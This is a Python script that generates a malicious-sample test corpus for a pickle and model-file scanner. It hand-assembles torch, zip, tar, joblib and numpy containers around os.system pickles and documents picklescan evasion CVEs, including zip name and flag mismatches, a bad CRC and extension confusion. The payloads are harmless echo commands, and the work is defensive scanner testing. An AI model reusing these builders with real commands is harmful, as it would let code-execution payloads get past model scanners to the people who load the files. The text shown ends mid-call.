#!/usr/bin/env python3
"""Build brine's container corpus: the file formats that carry pickles, and the tricks played with them.

Writes corpus/containers/<name> and corpus/containers/manifest.json. The research behind every
sample (which reader is fooled, and why) is docs/containers.md.

Three kinds of sample:

* hand-assembled attack files (zip/tar/7z/legacy-torch/joblib/npy containers around a payload
  pickle), built byte by byte with the helpers below. Payloads are harmless on purpose
  (``os.system('echo brine-test')``, paths under /tmp/brine-test*) but the files are still real
  exploits for a loader that trusts them: never load them with pickle, torch.load, numpy.load or
  joblib.load. Nothing in this script ever unpickles one of them;
* benign files written by the real libraries (joblib.dump, np.save/np.savez, torch.save,
  torch.jit.save), which this script loads back with their own library to check them;
* "twins": throw-away benign copies of some attack files, built with the same code but a
  harmless call in place of the payload. They are never written to the corpus; --verify loads
  them to prove that the container layout really reaches the payload position in the real
  loader (torch 1.13, joblib 1.2, numpy 1.24).

The zip differentials (which member torch's miniz reader picks versus Python's zipfile) are
checked without unpickling anything: torch._C.PyTorchFileReader.get_record() only returns bytes.

Usage:  /usr/bin/python3 corpus/make_containers.py [--verify]
Needs at generation time only: torch, numpy, joblib, sklearn (Debian python3 packages), the
`7zz` (package 7zip) and `zstd` CLIs, and python3-lz4. The output is deterministic: two runs give
identical bytes (the 7z samples only for the same 7-Zip version; see their manifest notes).
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pickletools
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT_DIR = os.path.join(HERE, "containers")
MANIFEST = os.path.join(OUT_DIR, "manifest.json")
MAX_SIZE = 64 * 1024 - 1

PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
PT = "https://github.com/pytorch/pytorch/security/advisories/"
NULLIFAI = "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"

CMD = "echo brine-test"

# --------------------------------------------------------------------------- opcodes
MARK = b"("
STOP = b"."
POP = b"0"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
REDUCE = b"R"
BUILD = b"b"
NEWOBJ = b"\x81"
STACK_GLOBAL = b"\x93"
TUPLE = b"t"
EMPTY_TUPLE = b")"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_LIST = b"]"
APPENDS = b"e"
EMPTY_DICT = b"}"
SETITEM = b"s"
SETITEMS = b"u"
MEMOIZE = b"\x94"
BINPERSID = b"Q"
FRAME = b"\x95"


def proto(n):
    return b"\x80" + bytes([n])


def frame(body):
    return FRAME + struct.pack("<Q", len(body)) + body


def p4(body):
    return proto(4) + frame(body + STOP)


def p2(body):
    return proto(2) + body + STOP


def glob(module, name):
    return b"c" + module.encode("ascii") + b"\n" + name.encode("ascii") + b"\n"


def s0(text):
    """Protocol 0 STRING (quoted, newline-terminated)."""
    assert "'" not in text and "\n" not in text
    return b"S'" + text.encode("ascii") + b"'\n"


def u(text):
    raw = text.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def xu(text):
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def by(data):
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def i(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def sg(module, name):
    return u(module) + u(name) + STACK_GLOBAL


def tup(*items):
    if not items:
        return EMPTY_TUPLE
    if len(items) <= 3:
        return b"".join(items) + (TUPLE1, TUPLE2, TUPLE3)[len(items) - 1]
    return MARK + b"".join(items) + TUPLE


def lst(*items):
    if not items:
        return EMPTY_LIST
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def dct(*pairs):
    if not pairs:
        return EMPTY_DICT
    return EMPTY_DICT + MARK + b"".join(k + v for k, v in pairs) + SETITEMS


def call(func, *args):
    return func + tup(*args) + REDUCE


def od(*pairs):
    body = glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    if pairs:
        body += MARK + b"".join(k + v for k, v in pairs) + SETITEMS
    return body


def storage_pid(key, numel, legacy=False):
    """The persistent id torch.save writes (zip: 5-tuple; legacy stream: 6-tuple ending in None)."""
    return (MARK + xu("storage") + glob("torch", "FloatStorage") + xu(key) + xu("cpu") + i(numel)
            + (NONE if legacy else b"") + TUPLE + BINPERSID)


def tensor(key="0", numel=4, legacy=False):
    return (glob("torch._utils", "_rebuild_tensor_v2") + MARK + storage_pid(key, numel, legacy)
            + i(0) + tup(i(numel)) + tup(i(1)) + NEWFALSE + od() + TUPLE + REDUCE)


def os_system_call(cmd=CMD):
    return call(glob("os", "system"), xu(cmd))


def harmless_call():
    """What the verification twins run instead of os.system: builtins.len('echo brine-test')."""
    return call(glob("builtins", "len"), xu(CMD))


FLOATS = struct.pack("<4f", 0.0, 1.0, 2.0, 3.0)
PAYLOAD = p2(os_system_call())                                   # bare protocol 2 payload
PAYLOAD_P4 = p4(call(sg("os", "system"), u(CMD)))                # what pickle.dump() writes today
PAYLOAD_P0 = glob("os", "system") + MARK + s0(CMD) + TUPLE + REDUCE + STOP   # text form, no \x80
BENIGN_STATE = p2(od((xu("weight"), tensor())))
PAYLOAD_STATE = p2(od((xu("weight"), tensor()), (xu("brine"), os_system_call())))
TWIN_STATE = p2(od((xu("weight"), tensor()), (xu("brine"), harmless_call())))
BROKEN_PAYLOAD = proto(2) + os_system_call() + POP + b"\xff\xfe brine-test garbage, no STOP"

# --------------------------------------------------------------------------- zip writer
DOS_DATE_1980 = (0 << 11, (0 << 9) | (1 << 5) | 1)   # 1980-01-01 00:00:00 (time, date)


def deflate_raw(data, level=9):
    c = zlib.compressobj(level, zlib.DEFLATED, -15, 9)
    return c.compress(data) + c.flush()


class E:
    """One zip member. Keyword overrides (all optional) let a sample lie in any header field:

    lname: local-header name; flags / lflags / cflags: general-purpose bits (both / local / central);
    crc / lcrc / ccrc / dcrc; csize / usize (central sizes); lcsize / lusize (local sizes);
    lmethod / cmethod; descriptor (bool: sizes in a data descriptor, torch style);
    comp (raw member bytes as stored); in_cd / in_local (member appears in that structure);
    cd_offset (central directory's local-header offset); extra (local extra field bytes).
    """

    def __init__(self, name, data, method=0, **kw):
        self.name = name.encode("utf-8") if isinstance(name, str) else name
        self.data = data
        self.method = method
        self.kw = kw


def build_zip(entries, style="torch", lead=b"", tail=b"", absolute=True, zip64=None, count=None,
              count64=None, cd_size=None, cd_offset=None, gaps=None, comment=b""):
    """Write a zip archive.

    style "torch": what torch 1.13's PyTorchStreamWriter (miniz) writes: version fields 0, dates 0,
    flags 0x0808 with data descriptors, an "FB" extra field aligning data to 64 bytes, and a
    ZIP64 end record + locator before the classic end record. With the same members this is
    byte-identical to torch.save output (checked by --verify).
    style "plain": what Python's zipfile writes with fixed 1980-01-01 dates: version 20, no
    descriptors, no alignment, no ZIP64 records.
    lead: bytes before the first local header; absolute=True keeps every offset valid from the
    start of the file (a polyglot made on purpose), False writes offsets relative to the zip
    (what `cat junk model.zip` gives).
    """
    torch_style = style == "torch"
    if zip64 is None:
        zip64 = torch_style
    gaps = gaps or {}
    out = bytearray(lead)
    base = 0 if absolute else len(lead)
    recs = []
    for idx, e in enumerate(entries):
        kw = e.kw
        comp = kw.get("comp")
        if comp is None:
            comp = e.data if e.method == 0 else deflate_raw(e.data)
        crc = kw.get("crc", zlib.crc32(e.data) & 0xFFFFFFFF)
        descriptor = kw.get("descriptor", torch_style and len(e.data) > 0)
        base_flags = (0x0800 if torch_style else 0) | (0x0008 if descriptor else 0)
        flags = kw.get("flags", base_flags)
        lflags = kw.get("lflags", flags)
        cflags = kw.get("cflags", flags)
        lname = kw.get("lname", e.name)
        if isinstance(lname, str):
            lname = lname.encode("utf-8")
        version = 0 if torch_style else 20
        dtime, ddate = (0, 0) if torch_style else DOS_DATE_1980
        off = len(out)
        if kw.get("in_local", True):
            if kw.get("extra") is not None:
                extra = kw["extra"]
            elif torch_style:
                start = off + 30 + len(lname) + 4
                pad = (-start) % 64
                extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
            else:
                extra = b""
            if descriptor:
                lcrc, lcs, lus = kw.get("lcrc", 0), kw.get("lcsize", 0), kw.get("lusize", 0)
            else:
                lcrc, lcs, lus = kw.get("lcrc", crc), kw.get("lcsize", len(comp)), kw.get("lusize", len(e.data))
            out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", version, lflags, kw.get("lmethod", e.method),
                               dtime, ddate, lcrc, lcs, lus, len(lname), len(extra))
            out += lname + extra + comp
            if descriptor:
                out += struct.pack("<4sIII", b"PK\x07\x08", kw.get("dcrc", crc), len(comp), len(e.data))
        out += gaps.get(idx, b"")
        if kw.get("in_cd", True):
            recs.append((e, crc, cflags, comp, kw.get("cd_offset", off - base), version, dtime, ddate))
    cd_start = len(out)
    for e, crc, cflags, comp, off, version, dtime, ddate in recs:
        kw = e.kw
        made_by = 0 if style == "torch" else 0x0314
        attr = 0 if style == "torch" else (0o644 << 16)
        out += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", made_by, version, cflags,
                           kw.get("cmethod", e.method), dtime, ddate, kw.get("ccrc", crc),
                           kw.get("csize", len(comp)), kw.get("usize", len(e.data)),
                           len(e.name), 0, 0, 0, 0, attr, off)
        out += e.name
    real_cd_size = len(out) - cd_start
    n = len(recs) if count is None else count
    size = real_cd_size if cd_size is None else cd_size
    cdo = (cd_start - base) if cd_offset is None else cd_offset
    if zip64:
        n64 = n if count64 is None else count64
        z64 = len(out)
        out += struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 0x031E, 0x2D, 0, 0, n64, n64, size, cdo)
        out += struct.pack("<4sIQI", b"PK\x06\x07", 0, z64 - base, 1)
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, min(n, 0xFFFF), min(n, 0xFFFF), size, cdo,
                       len(comment)) + comment
    out += tail
    return bytes(out)


def torch_members(data_pkl, extra=(), prefix="archive"):
    """The members torch 1.13 writes for a one-tensor state dict, in its order."""
    return ([E(prefix + "/data.pkl", data_pkl), E(prefix + "/data/0", FLOATS)] + list(extra)
            + [E(prefix + "/version", b"3\n")])


def torch_zip(data_pkl, extra=(), **kw):
    return build_zip(torch_members(data_pkl, extra), **kw)


def zip64_two_central_directories(torch_pkl, python_pkl):
    """Two central directories: miniz follows the ZIP64 locator's offset, CPython's zipfile reads
    the ZIP64 end record that sits right before the locator. Each names a different data.pkl."""
    out = bytearray()
    ents = [("archive/data.pkl", torch_pkl), ("archive/data/0", FLOATS), ("archive/version", b"3\n"),
            ("archive/data.pkl", python_pkl)]
    offs = []
    for name, data in ents:
        offs.append(len(out))
        nb = name.encode()
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 0, 0x800, 0, 0, 0, zlib.crc32(data),
                           len(data), len(data), len(nb), 0) + nb + data

    def cd(idx):
        b = bytearray()
        for k in idx:
            name, data = ents[k]
            nb = name.encode()
            b += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0, 0, 0x800, 0, 0, 0, zlib.crc32(data),
                             len(data), len(data), len(nb), 0, 0, 0, 0, 0, offs[k]) + nb
        return bytes(b)

    def end64(n, size, ofs):
        return struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 0x31E, 0x2D, 0, 0, n, n, size, ofs)

    cd1 = cd([0, 1, 2])
    cd1_off = len(out)
    out += cd1
    z1 = len(out)
    out += end64(3, len(cd1), cd1_off)
    cd2 = cd([3, 1, 2])
    cd2_off = len(out)
    out += cd2
    out += end64(3, len(cd2), cd2_off)
    out += struct.pack("<4sIQI", b"PK\x06\x07", 0, z1, 1)
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 3, 3, len(cd2), cd2_off, 0)
    return bytes(out)


def fix_zip_times(data):
    """Set every modification time/date in a zip written by Python's zipfile to 1980-01-01 00:00
    (the only non-deterministic bytes in np.savez output). Headers are outside the CRC."""
    buf = bytearray(data)
    eocd = buf.rfind(b"PK\x05\x06")
    n, cd_size, cd_ofs = struct.unpack_from("<HII", buf, eocd + 10)
    if cd_ofs == 0xFFFFFFFF or n == 0xFFFF:
        loc = buf.rfind(b"PK\x06\x07")
        z64 = struct.unpack_from("<Q", buf, loc + 8)[0]
        n, cd_size, cd_ofs = struct.unpack_from("<QQQ", buf, z64 + 32)
    p = cd_ofs
    for _ in range(n):
        assert buf[p:p + 4] == b"PK\x01\x02"
        struct.pack_into("<HH", buf, p + 12, *DOS_DATE_1980)
        nlen, xlen, clen = struct.unpack_from("<HHH", buf, p + 28)
        lho = struct.unpack_from("<I", buf, p + 42)[0]
        if lho == 0xFFFFFFFF:  # zip64 extra holds the offset
            x = p + 46 + nlen
            xend = x + xlen
            while x < xend:
                tag, ln = struct.unpack_from("<HH", buf, x)
                if tag == 1:
                    vals = struct.unpack_from("<%dQ" % (ln // 8), buf, x + 4)
                    lho = vals[-1]
                x += 4 + ln
        assert buf[lho:lho + 4] == b"PK\x03\x04"
        struct.pack_into("<HH", buf, lho + 10, *DOS_DATE_1980)
        p += 46 + nlen + xlen + clen
    return bytes(buf)


def zipcrypto_encrypt(data, password, header11, check_byte):
    """Traditional PKWARE encryption (ZipCrypto) with a fixed 11-byte header (deterministic)."""
    table = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table.append(c)
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(old, b):
        return (old >> 8) ^ table[(old ^ b) & 0xFF]

    def update(b):
        keys[0] = crc(keys[0], b)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[2], keys[1] >> 24)

    for b in password:
        update(b)
    out = bytearray()
    for b in header11 + bytes([check_byte]) + data:
        t = (keys[2] | 2) & 0xFFFF
        out.append(b ^ (((t * (t ^ 1)) >> 8) & 0xFF))
        update(b)
    return bytes(out)


# --------------------------------------------------------------------------- other writers
def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


def tar_bytes(members, fmt=tarfile.USTAR_FORMAT):
    """Deterministic tar: mtime 0, uid/gid 0, no user names, mode 0644."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            ti.mode = 0o644
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = ""
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def zstd_bytes(data):
    return subprocess.run(["zstd", "-19", "-q", "-c", "--no-progress"], input=data, check=True,
                          stdout=subprocess.PIPE).stdout


def lz4_frame(data):
    import lz4.frame
    return lz4.frame.compress(data)


def sevenzip(files, method="LZMA2"):
    """files: [(relative path, bytes)] -> .7z bytes, via the 7zz CLI with all timestamps off."""
    tmp = tempfile.mkdtemp(prefix="brine7z")
    try:
        src = os.path.join(tmp, "src")
        for rel, data in files:
            path = os.path.join(src, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as fh:
                fh.write(data)
        for root, dirs, names in os.walk(src):
            for n in dirs + names:
                os.utime(os.path.join(root, n), (0, 0))
            os.chmod(root, 0o755)
        out = os.path.join(tmp, "out.7z")
        args = ["7zz", "a", "-t7z", "-bd", "-bso0", "-mtm=off", "-mtc=off", "-mta=off", "-mx=9",
                "-m0=" + method, out] + sorted({rel.split("/")[0] for rel, _ in files})
        subprocess.run(args, cwd=src, check=True, stdout=subprocess.DEVNULL)
        with open(out, "rb") as fh:
            return fh.read()
    finally:
        shutil.rmtree(tmp)


# --------------------------------------------------------------------------- legacy torch formats
MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
LEGACY_KEY = "140737488355328"      # a pointer-like storage key, as _legacy_save writes them


def legacy_magic(pre=b""):
    return proto(2) + pre + b"\x8a\x0a" + MAGIC_NUMBER.to_bytes(10, "little") + STOP


def legacy_protocol(pre=b""):
    return proto(2) + pre + b"M" + struct.pack("<H", 1001) + STOP


def legacy_sys_info(pre=b""):
    return proto(2) + pre + dct((xu("protocol_version"), i(1001)), (xu("little_endian"), NEWTRUE),
                                (xu("type_sizes"), dct((xu("short"), i(2)), (xu("int"), i(4)),
                                                       (xu("long"), i(4))))) + STOP


def legacy_object(extra=()):
    return p2(od((xu("weight"), tensor(LEGACY_KEY, 4, legacy=True)), *extra))


def legacy_keys(pre=b""):
    return proto(2) + pre + lst(xu(LEGACY_KEY)) + STOP


LEGACY_STORAGES = struct.pack("<q", 4) + FLOATS


def legacy_file(magic=None, protocol=None, sys_info=None, obj=None, keys=None, tail=b""):
    return ((magic or legacy_magic()) + (protocol or legacy_protocol()) + (sys_info or legacy_sys_info())
            + (obj or legacy_object()) + (keys or legacy_keys()) + LEGACY_STORAGES + tail)


TAR_STORAGE_KEY = 94000000000
TAR_TENSOR_KEY = 94000000064


def tar_legacy_members(pickle_member=None, storages_pre=b"", tensors_pre=b""):
    """torch 0.1.x tar format (tensor-formats.md section 1.5), as torch 1.13's legacy_load reads it."""
    sys_info = p2(dct((xu("protocol_version"), i(1000)), (xu("little_endian"), NEWTRUE),
                      (xu("type_sizes"), dct((xu("short"), i(2)), (xu("int"), i(4)), (xu("long"), i(8))))))
    storages = (proto(2) + storages_pre + i(1) + STOP
                + p2(tup(b"\x8a\x05" + TAR_STORAGE_KEY.to_bytes(5, "little"), xu("cpu"),
                         glob("torch", "FloatStorage")))
                + struct.pack("<q", 4) + FLOATS
                + p2(EMPTY_LIST))
    tensors = (proto(2) + tensors_pre + i(1) + STOP
               + p2(tup(b"\x8a\x05" + TAR_TENSOR_KEY.to_bytes(5, "little"),
                        b"\x8a\x05" + TAR_STORAGE_KEY.to_bytes(5, "little"), glob("torch", "FloatTensor")))
               + struct.pack("<i", 1) + b"\0\0\0\0" + struct.pack("<q", 4) + struct.pack("<q", 1)
               + struct.pack("<q", 0))
    if pickle_member is None:
        pickle_member = p2(od((xu("weight"), xu(str(TAR_TENSOR_KEY)) + BINPERSID)))
    return [("sys_info", sys_info), ("pickle", pickle_member), ("tensors", tensors), ("storages", storages)]


# --------------------------------------------------------------------------- joblib / numpy writers
def np_dtype(descr, order_char):
    """numpy.dtype(descr, False, True) + BUILD state, as numpy pickles it (protocol 4 spelling)."""
    return (call(sg("numpy", "dtype"), u(descr), NEWFALSE, NEWTRUE)
            + MARK + i(3) + u(order_char) + NONE + NONE + NONE + b"J" + struct.pack("<i", -1)
            + b"J" + struct.pack("<i", -1) + i(63 if descr == "O8" else 0) + TUPLE + BUILD)


def jl_wrapper(shape, descr, order_char, align=True):
    """joblib.numpy_pickle.NumpyArrayWrapper() + BUILD(state), joblib 1.2 layout."""
    items = [(u("subclass"), sg("numpy", "ndarray")), (u("shape"), tup(*[i(n) for n in shape])),
             (u("order"), u("C")), (u("dtype"), np_dtype(descr, order_char)),
             (u("allow_mmap"), NEWFALSE if descr == "O8" else NEWTRUE)]
    if align:
        items.append((u("numpy_array_alignment_bytes"), i(16)))
    return sg("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + dct(*items) + BUILD


def jl_frame(body):
    """How CPython's framer writes a protocol 4 chunk: a FRAME only for 4 bytes or more."""
    return frame(body) if len(body) >= 4 else body


class JoblibStream:
    """Assemble a joblib 1.2 stream: protocol 4 pickle chunks, each frame committed before the
    raw array bytes that joblib writes straight into the file after a NumpyArrayWrapper BUILD."""

    def __init__(self):
        self.buf = bytearray(proto(4))
        self.pending = bytearray()

    def ops(self, b):
        self.pending += b

    def flush(self):
        if self.pending:
            self.buf += jl_frame(bytes(self.pending))
            self.pending = bytearray()

    def raw_array(self, data, pad_byte=None, pad=None):
        """joblib's padding rule: after the BUILD at stream position p, one byte holding
        n = 16 - ((p + 1) % 16) (1..16, never 0), n bytes 0xFF, then the array bytes."""
        self.flush()
        if pad_byte is None:
            n = 16 - ((len(self.buf) + 1) % 16)
            self.buf += bytes([n]) + b"\xff" * n
        else:
            self.buf += bytes([pad_byte]) + pad
            assert len(pad) == pad_byte
        self.buf += data

    def raw(self, data):
        self.flush()
        self.buf += data

    def finish(self):
        self.ops(STOP)
        self.flush()
        return bytes(self.buf)


def joblib_dict_stream(hidden=None, object_payload=None, outer_extra=b""):
    """{'weights': float32[4] array, 'classes': object array} written like joblib.dump.

    hidden: (pad_byte, pad, data) to replace the padding and array bytes of 'weights' (the
    joblib.load / pickle.load differential); object_payload: the nested pickle of 'classes'."""
    js = JoblibStream()
    js.ops(EMPTY_DICT + MARK + u("weights") + jl_wrapper((4,), "f4", "<"))
    if hidden is None:
        js.raw_array(FLOATS)
    else:
        js.raw_array(hidden[2], pad_byte=hidden[0], pad=hidden[1])
    js.ops(u("classes") + jl_wrapper((2,), "O8", "|"))
    js.raw(object_payload if object_payload is not None else np_object_array_pickle(xu("cat"), xu("dog")))
    js.ops(outer_extra + SETITEMS)
    return js.finish()


def np_object_array_pickle(*elements, protocol=2):
    """pickle.dump(object_array, protocol=2) as joblib writes object arrays (numpy 1.24 names)."""
    n = len(elements)
    body = (call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), tup(i(0)),
                 call(glob("_codecs", "encode"), xu("b"), xu("latin1")))
            + MARK + i(1) + tup(i(n))
            + call(glob("numpy", "dtype"), xu("O8"), NEWFALSE, NEWTRUE)
            + MARK + i(3) + xu("|") + NONE + NONE + NONE + b"J" + struct.pack("<i", -1)
            + b"J" + struct.pack("<i", -1) + i(63) + TUPLE + BUILD
            + NEWFALSE + lst(*elements) + TUPLE + BUILD)
    return proto(protocol) + body + STOP


def npy_object_array_pickle(*elements):
    """What np.save (numpy 1.24) writes after the header of an object array: protocol 3."""
    n = len(elements)
    body = (call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), tup(i(0)), by(b"b"))
            + MARK + i(1) + tup(i(n))
            + call(glob("numpy", "dtype"), xu("O8"), NEWFALSE, NEWTRUE)
            + MARK + i(3) + xu("|") + NONE + NONE + NONE + b"J" + struct.pack("<i", -1)
            + b"J" + struct.pack("<i", -1) + i(63) + TUPLE + BUILD
            + NEWFALSE + lst(*elements) + TUPLE + BUILD)
    return proto(3) + body + STOP


def npy_header(descr, shape, version=(1, 0), fortran=False):
    d = "{'descr': %r, 'fortran_order': %r, 'shape': %r, }" % (descr, fortran, tuple(shape))
    raw = d.encode("utf-8" if version == (3, 0) else "latin1")
    lenfmt = "<H" if version == (1, 0) else "<I"
    pre = 6 + 2 + struct.calcsize(lenfmt)
    total = pre + len(raw) + 1
    raw = raw + b" " * ((-total) % 64) + b"\n"
    return b"\x93NUMPY" + bytes(version) + struct.pack(lenfmt, len(raw)) + raw


# --------------------------------------------------------------------------- samples
SAMPLES = []


def add(name, data, expect, must_report, technique, note, advisory=None, with_packs=None, check=None):
    """check: how validate() inspects the bytes (see there)."""
    assert expect in ("clean", "unapproved", "malicious", "error"), expect
    if expect != "malicious":
        assert not must_report
    SAMPLES.append(dict(name=name, data=data, expect=expect, must_report=list(must_report),
                        technique=technique, note=note, advisory=advisory,
                        with_packs=with_packs or {}, check=check))


def build_samples():
    # ======================= CVE-2025-1889: pickle member without a pickle extension =============
    add("cve-2025-1889_pickle_member_txt_extension.pt",
        torch_zip(BENIGN_STATE, [E("archive/config.txt", PAYLOAD)]),
        "malicious", ["os.system"],
        "torch.save-style zip: benign data.pkl, protocol 2 os.system pickle in archive/config.txt",
        "picklescan < 0.0.22 chose members by extension. torch.load(f, pickle_file='config.txt') (an "
        "undocumented keyword passed through **pickle_load_args to _load in 1.13) unpickles it; brine "
        "must sniff every non-storage member by content.",
        PS + "GHSA-769v-p64c-89pr", check="zip")
    add("cve-2025-1889_pickle_member_no_extension_proto0.pt",
        torch_zip(BENIGN_STATE, [E("archive/payload", PAYLOAD_P0)]),
        "malicious", ["os.system"],
        "torch zip with a protocol 0 (text, no \\x80 PROTO byte) os.system pickle in archive/payload",
        "Extensionless member whose first byte is 'c' (GLOBAL), not \\x80: a PROTO-byte sniffer misses it "
        "(ModelAudit PR #624 fixed the same gap for protocol 0/1 members).",
        PS + "GHSA-769v-p64c-89pr", check="zip")
    add("tech_zip_unreferenced_storage_member_pickle.pt",
        torch_zip(BENIGN_STATE, [E("archive/data/7", PAYLOAD)]),
        "malicious", ["os.system"],
        "payload pickle stored as archive/data/7, a storage-looking member that no persistent id references",
        "Skipping every data/<key> member as 'tensor bytes' hides it; only members named by a persistent id "
        "in data.pkl are storages (the rest must be sniffed like any member).", check="zip")

    # ======================= CVE-2025-1944: local vs central file name ===========================
    add("cve-2025-1944_zip_name_mismatch_central_payload.pt",
        build_zip([E("archive/data.pkl", PAYLOAD_STATE, lname="archive/xxxx.pkl"), E("archive/data/0", FLOATS),
                   E("archive/version", b"3\n")]),
        "malicious", ["os.system"],
        "central directory says archive/data.pkl (payload state dict), its local header says archive/xxxx.pkl",
        "torch (miniz) uses central-directory names only and loads the payload (verified with torch 1.13's "
        "PyTorchFileReader); CPython zipfile raises 'File name in directory ... and header ... differ', which "
        "made picklescan < 0.0.23 fail open.",
        PS + "GHSA-7q5r-7gvp-wc82", check="zip-raw")
    add("cve-2025-1944_zip_name_mismatch_local_payload.pt",
        build_zip([E("archive/data.pkl", BENIGN_STATE), E("archive/data/0", FLOATS),
                   E("archive/extra.bin", PAYLOAD, lname="archive/data.pkl"), E("archive/version", b"3\n")]),
        "malicious", ["os.system"],
        "reverse direction: a member the central directory calls archive/extra.bin carries a local header named "
        "archive/data.pkl and the payload",
        "torch loads the benign central data.pkl; a reader that walks local headers (streaming unzip) sees a "
        "second data.pkl holding os.system. The payload bytes are a pickle whatever the name: malicious.",
        PS + "GHSA-7q5r-7gvp-wc82", check="zip-raw")

    add("tech_zip_name_mismatch_benign.pt",
        build_zip([E("archive/data.pkl", BENIGN_STATE, lname="archive/xxxx.pkl"), E("archive/data/0", FLOATS),
                   E("archive/version", b"3\n")]),
        "malicious", [],
        "the CVE-2025-1944 name disagreement (central archive/data.pkl, local archive/xxxx.pkl) around a benign "
        "state dict",
        "Malicious as an evasion indicator even with benign content: no writer (torch, zipfile, numpy) produces "
        "a local/central disagreement, its only use is to make a loader and a scanner read different members, "
        "and brine treats every reader disagreement the same way (like a FRAME that lies).",
        PS + "GHSA-7q5r-7gvp-wc82", check="zip-raw")

    # ======================= CVE-2025-1945: general-purpose flag bits ============================
    for bit, label in ((0x1, "encrypted"), (0x20, "patched_data"), (0x40, "strong_encryption")):
        add("cve-2025-1945_flag_0x%x_%s.pt" % (bit, label),
            build_zip([E("archive/data.pkl", PAYLOAD_STATE, flags=0x0808 | bit), E("archive/data/0", FLOATS),
                       E("archive/version", b"3\n")]),
            "malicious", ["os.system"],
            "flag bit 0x%x set in the local and central headers of an unencrypted stored data.pkl carrying "
            "os.system (the advisory's test files set it in both)" % bit,
            "CPython zipfile refuses the member (encrypted / 'compressed patched data' / 'strong encryption'). "
            "torch 1.13 (miniz 2.x) ALSO refuses a central-directory 0x1/0x20/0x40 bit ('unsupported "
            "encryption'/'unsupported feature'), so this exact file does not run under torch.load; a relaxed "
            "reader (picklescan's RelaxedZipFile, ignoring flags) reads the plain bytes. Malicious either way.",
            PS + "GHSA-w8jq-xcqf-f792", check="zip-raw")
    add("cve-2025-1945_flag_0x1_local_header_only.pt",
        build_zip([E("archive/data.pkl", PAYLOAD_STATE, lflags=0x0809, cflags=0x0808), E("archive/data/0", FLOATS),
                   E("archive/version", b"3\n")]),
        "malicious", ["os.system"],
        "encryption bit 0x1 only in the local header of data.pkl (central directory clean)",
        "The variant torch 1.13 really loads: miniz takes flags from the central directory and ignores the "
        "local header's; CPython 3.11 also reads it. A scanner that trusts local flags skips the payload.",
        PS + "GHSA-w8jq-xcqf-f792", check="zip")

    # ======================= CVE-2025-10155: plain pickle with a torch extension =================
    add("cve-2025-10155_raw_pickle_named.bin", PAYLOAD_P4, "malicious", ["os.system"],
        "bare protocol 4 os.system pickle (what pickle.dump writes) in a file named .bin",
        "picklescan < 0.0.31 routed .bin/.pt to its torch path, failed the zip/magic check and reported an "
        "error instead of scanning. torch.load runs it (legacy path: the first pickle.load is the payload).",
        PS + "GHSA-jgw4-cr84-mqxg", check="pickle")
    add("cve-2025-10155_raw_pickle_named.pt", PAYLOAD_P4, "malicious", ["os.system"],
        "same bare protocol 4 payload pickle, named .pt",
        "Format is decided by content, never by extension.", PS + "GHSA-jgw4-cr84-mqxg", check="pickle")
    add("cve-2025-10155_proto0_pickle_named.bin", PAYLOAD_P0, "malicious", ["os.system"],
        "protocol 0 text payload (starts with 'c', no \\x80) named .bin",
        "ModelAudit PR #605: protocol 0/1 content in .bin files was not recognised as a pickle.",
        PS + "GHSA-jgw4-cr84-mqxg", check="pickle")
    add("cve-2025-10155_torch_zip_named.pkl", torch_zip(PAYLOAD_STATE), "malicious", ["os.system"],
        "torch.save-style zip with os.system in data.pkl, named .pkl",
        "The reverse mix-up: a zip routed to a plain-pickle scanner fails at byte 0 ('P' is PERSID).",
        PS + "GHSA-jgw4-cr84-mqxg", check="zip")

    # ======================= CVE-2025-10156: CRC-32 ==============================================
    add("cve-2025-10156_bad_crc.pt", build_zip(
        [E("archive/data.pkl", PAYLOAD_STATE, crc=0xDEADBEEF), E("archive/data/0", FLOATS),
         E("archive/version", b"3\n")]),
        "malicious", ["os.system"],
        "data.pkl (os.system) with a wrong CRC-32 in the central directory and the data descriptor",
